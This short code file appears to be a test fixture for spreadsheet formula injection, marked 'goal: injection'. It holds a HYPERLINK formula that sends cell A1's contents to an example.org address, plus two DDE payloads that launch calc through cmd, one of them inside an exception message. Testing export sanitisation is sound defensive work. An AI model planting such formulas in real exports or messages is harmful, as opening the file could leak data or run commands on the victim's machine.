# goal: injection
# technique: spreadsheet formulas in texts and messages
# with: honest answers above
# expect: status graded
explain_dot = "=HYPERLINK(\"http://example.org/?\"&A1,\"click\")"
explain_attention = "@SUM(1+1)*cmd|' /C calc'!A0"
raise ValueError("+1+1\t=cmd|'/C calc'!A0")
